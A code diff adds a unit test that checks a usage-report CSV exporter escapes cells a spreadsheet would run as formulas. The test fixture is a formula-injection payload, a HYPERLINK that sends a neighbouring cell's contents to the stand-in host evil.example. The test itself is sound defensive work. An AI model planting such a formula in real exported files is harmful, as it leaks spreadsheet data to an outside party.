@@ -50,3 +50,16 @@ def test_counts_add_up_and_read_by_hour_and_day(tmp_path: Path) -> None:
     table = list(csv.DictReader(io.StringIO(text)))
     assert table[0]["period"] == f"t{DAY + H}" and table[0]["total_tokens"] == "17"
     assert table[1]["requests"] == "4" and table[0]["key_name"] == "ci"
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
+    """A model name is any team's text, and the CSV an administrator opens holds every team's:
+    a cell starting as a formula would (`=`, `+`, `-`, `@`, a tab or a carriage return) is
+    written with a leading `'`, as spreadsheets read text; numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    line = usage.Line(H, "red", "", "", "gemma", formula, 1, 2, 3, 0, 0.0, 0.0)
+    negative = usage.Line(H, "red", "", "", "gemma", "-m", -1, 0, 0, 0, 0.0, 0.0)
+    table = list(csv.DictReader(io.StringIO(usage.to_csv([line, negative], str))))
+    assert table[0]["model"] == "'" + formula
+    assert table[1]["model"] == "'-m" and table[1]["requests"] == "-1"
+    assert table[0]["endpoint"] == "gemma" and table[0]["total_tokens"] == "5"
